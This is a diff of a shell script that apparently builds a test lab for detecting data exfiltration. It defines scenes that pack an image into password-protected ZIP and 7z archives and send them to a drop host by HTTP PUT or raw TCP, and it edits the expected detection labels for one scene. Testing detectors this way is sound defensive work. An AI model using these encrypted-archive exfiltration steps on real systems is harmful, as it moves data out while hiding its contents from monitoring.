@@ -79,7 +79,7 @@ s_content_zip() { (cd "$LAB_DIR/tmp" && rm -f a.zip && zip -q a.zip scan.tif); s
 scene content-zip-encrypted exfil 'unapproved NII-0007:encrypted-archive NII-0007:archive?' zip,curl 'An encrypted ZIP archive by HTTP PUT.'
 s_content_zip_encrypted() { (cd "$LAB_DIR/tmp" && rm -f e.zip && zip -q -P geheim e.zip scan.tif); send nii7 "http://$DROP/e.zip" "$LAB_DIR/tmp/e.zip"; }
 
-scene content-7z-encrypted exfil 'unapproved NII-0008:encrypted-archive NII-0008:archive?' 7z,socat 'A 7z archive with encrypted names over plain TCP.'
+scene content-7z-encrypted exfil 'unapproved NII-0008:archive NII-0008:encrypted-archive?' 7z,socat 'A 7z archive with encrypted names over plain TCP; that it is encrypted stands at its end.'
 s_content_7z_encrypted() {
     (cd "$LAB_DIR/tmp" && rm -f e.7z && head -c 20000 scan.tif >small.tif && 7z a -pgeheim -mhe=on e.7z small.tif >/dev/null)
     lab_sink outside tcp "$DROP" 9200; raw_to nii8 "$LAB_DIR/tmp/e.7z" "$DROP:9200"
